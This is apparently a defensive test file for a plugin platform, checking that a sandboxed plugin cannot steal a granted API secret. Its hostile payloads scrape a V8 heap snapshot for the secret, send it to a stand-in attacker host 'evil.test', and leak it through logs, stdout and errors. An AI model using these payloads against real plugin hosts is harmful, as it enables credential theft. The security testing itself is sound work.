/** Plugins that want a secret which they may use and not have, and what becomes of one that they have. @source plugin-platform §10 A22 */
import assert from "node:assert/strict";
import { readFileSync, globSync } from "node:fs";
import { join } from "node:path";
import { randomBytes } from "node:crypto";
import { once } from "node:events";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { after, before, test } from "node:test";
import type { JsonObject, PermissionName } from "../../../host/src/contract/index.ts";
import { allow, hasBubblewrap, temporaryFolder } from "../../../host/test/runtime/fixtures/world.ts";
import { Street } from "../../../host/test/runtime/net/street.ts";
import { until } from "../../../host/test/support/until.ts";
import { runControl } from "./control-network.ts";
import { Daemon } from "./daemon.ts";
import { hostile } from "./hostile.ts";
import { reportAttack } from "./report.ts";

const PUBLIC = "93.184.215.14";
const SECRET = `S3CRET-${randomBytes(16).toString("hex")}`;
/** How the payloads look for it: they know its form, and their own text must not be what they find. */
const PATTERN = '"S3CRET" + "-[0-9a-f]{32}"';
const CONFIG = {
  schema: {
    type: "object",
    properties: { url: { type: "string", "x-endpoint": true }, key: { type: "string", "x-secret": true } },
  },
  secrets: ["/key"],
};

const confined = hasBubblewrap();
let street: Street;
let daemon: Daemon;
let folder: string;
let near: Server;
let settings: JsonObject = {};
/** What the server was told by way of authorization. */
let told: string[] = [];
before(async () => {
  near = createServer(({ headers }, response) => response.end(headers.authorization));
  near.listen(0, "127.0.0.1");
  await once(near, "listening");
  settings = { url: `http://127.0.0.1:${(near.address() as AddressInfo).port}/` };
  if (!confined) return;
  street = await Street.open();
  Object.assign(street.names, { "api.test": [PUBLIC], "evil.test": ["151.101.1.69"] });
  for (const [address, name] of [
    [PUBLIC, "api.test"],
    ["151.101.1.69", "evil.test"],
  ] as const)
    await street.https(`${address}:443`, name, ({ url, headers }, response) => {
      told.push(headers.authorization ?? "");
      response.end(url === "/echo" ? headers.authorization : "done");
    });
  folder = temporaryFolder();
  daemon = await Daemon.open(folder, { ways: street.ways });
});
after(async () => {
  near.close();
  if (!confined) return;
  await daemon.close();
  await street.close();
});

const USE: [PermissionName, JsonObject] = ["secret.use", { names: ["/key"] }];
const READ: [PermissionName, JsonObject] = ["secret.read", { names: ["/key"] }];

/**
 * Runs the payload as a plugin that the operator has given the secret to.
 * @param said  lines to wait for: what is printed comes by another way than the answer, and may come after it
 */
async function asPlugin(
  code: string,
  grants: [PermissionName, JsonObject][],
  said: readonly string[] = [],
): Promise<{ output: JsonObject; lines: string; ledger: string }> {
  const id = "lab/thief";
  const parts = { ...hostile({}), id, manifest: { config: CONFIG } };
  const given: [PermissionName, JsonObject][] = [
    ["net.internet", { fromConfig: "/url" }],
    ["net.internet", { hosts: ["evil.test:443"] }],
    ...grants,
  ];
  const rights = [allow("bus.provide", { prefixes: ["ext.hostile."] }), ...given.map(([name, scope]) => allow(name, scope))];
  const status = await daemon.runtime.stage(await daemon.release(parts), rights);
  assert.deepEqual([status.state, status.label], ["active", "os"]);
  told = [];
  try {
    await daemon.runtime.setConfig(id, { url: "https://api.test/" }, { "/key": SECRET });
    const output = await daemon
      .call("ext.hostile.run", { code })
      .catch((error: Error & { code: string }) => ({ error: error.code, message: error.message }));
    const messages = (): string[] => daemon.runtime.logs(id, { limit: 100 }).map(({ message }) => message);
    for (const line of said) await until(`the log says ${line}`, () => messages().join("\n").includes(line));
    return { output, lines: messages().join("\n"), ledger: JSON.stringify(daemon.runtime.ledger(1000)) };
  } finally {
    await daemon.runtime.remove(id, { keepData: false });
  }
}

const LOOK_AROUND = `
const v8 = process.getBuiltinModule("node:v8");
const pattern = new RegExp(${PATTERN});
const used = await (await ctx.fetch(ctx.config.url, { secrets: [{ header: "authorization", secret: "/key" }] })).bytes?.();
let heap = ""; let inHeap = false;
for await (const part of v8.getHeapSnapshot()) { heap = heap.slice(-100) + part; inHeap ||= pattern.test(heap); }
return { heap: inHeap ? "found" : "clean", config: pattern.test(JSON.stringify(ctx.config)) ? "found" : "clean" };`;

test("A22: cannot find in its heap or settings the secret that it has used; the control can", async (t) => {
  if (!confined) return t.skip("needs bubblewrap");
  const control = JSON.parse(await runControl(LOOK_AROUND, { settings, secret: SECRET })) as JsonObject;
  assert.deepEqual({ ...control }, { heap: "found", config: "found" });
  const { output, lines, ledger } = await asPlugin(LOOK_AROUND, [USE]);
  assert.deepEqual({ ...output }, { heap: "clean", config: "clean" });
  assert.deepEqual(told, [SECRET], "it was used all the same");
  assert.ok(!lines.includes(SECRET) && !ledger.includes(SECRET));
  reportAttack({
    row: "A22",
    title: "find in heap and settings a secret that it has used",
    confined: "clean",
    control: "found",
    record: "ledger: net.fetch allow, without the secret",
  });
});

const SEND_AWAY = `
const outcome = {};
for (const [name, url] of Object.entries({ "another server": ctx.elsewhere ?? "https://evil.test/", "the same in the clear": "http://api.test/" }))
  try { outcome[name] = await (await ctx.fetch(url, { secrets: [{ header: "authorization", secret: "/key" }] })).text(); }
  catch (error) { outcome[name] = error.code ?? String(error); }
return outcome;`;

test("A22: cannot have it sent to another server than the one it belongs to; the control can", async (t) => {
  if (!confined) return t.skip("needs bubblewrap");
  const control = await runControl(`ctx.elsewhere = ctx.config.url; ${SEND_AWAY}`, { settings, secret: SECRET });
  assert.ok((JSON.parse(control) as JsonObject)["another server"] === SECRET);
  const { output } = await asPlugin(SEND_AWAY, [USE]);
  assert.deepEqual({ ...output }, { "another server": "permission_denied", "the same in the clear": "permission_denied" });
  assert.deepEqual(told, []);
  reportAttack({
    row: "A22",
    title: "send a secret to a server of its own",
    confined: "permission_denied",
    control: "sent",
    record: "ledger: net.fetch deny",
  });
});

const TELL = `
const secret = await ctx.secrets.read("/key");
ctx.log.info("plain " + secret); ctx.log.info("field", { secret }); ctx.log.info(Buffer.from(secret).toString("base64"));
process.stdout.write("printed " + secret + "\\n"); console.error("error " + secret);
throw new Error("thrown " + secret);`;

test("A22: a secret that it may read does not reach the log, nor a caller by way of an error; the control's does", async (t) => {
  if (!confined) return t.skip("needs bubblewrap");
  const control = await runControl(TELL, { settings, secret: SECRET });
  for (const way of ["plain", "printed", "thrown"])
    assert.ok(control.includes(`${way} ${SECRET}`), `the control must succeed: ${way}`);
  const hidden = ["plain [hidden]", 'field {"secret":"[hidden]"}', "printed [hidden]", "error [hidden]", "thrown [hidden]"];
  const { output, lines, ledger } = await asPlugin(TELL, [USE, READ], hidden);
  assert.equal(output["error"], "internal_error");
  assert.ok(!JSON.stringify(output).includes(SECRET));
  assert.ok(!lines.includes(SECRET) && !lines.includes(Buffer.from(SECRET).toString("base64")) && !ledger.includes(SECRET));
  for (const file of globSync("node/**/*", { cwd: folder, withFileTypes: true }))
    if (file.isFile())
      assert.ok(!readFileSync(join(file.parentPath, file.name)).includes(SECRET), `${file.name} holds it in the clear`);
  reportAttack({
    row: "A22",
    title: "log, print and throw a secret",
    confined: "redacted",
    control: "plaintext",
    record: "log: [hidden]",
  });
});

test("A22: without secret.read it is not told, and a server that reflects a header tells it: the documented limit of secret.use", async (t) => {
  if (!confined) return t.skip("needs bubblewrap");
  const code = `
const read = await ctx.secrets.read("/key").then(() => "read", (error) => error.code);
const echo = await (await ctx.fetch(ctx.config.url + "echo", { secrets: [{ header: "authorization", secret: "/key", prefix: "Bearer " }] })).text();
ctx.log.info("echoed " + echo);
return { read, echo };`;
  const { output, lines } = await asPlugin(code, [USE]);
  assert.deepEqual({ ...output }, { read: "permission_denied", echo: `Bearer ${SECRET}` });
  assert.ok(lines.includes("echoed Bearer [hidden]") && !lines.includes(SECRET));
});
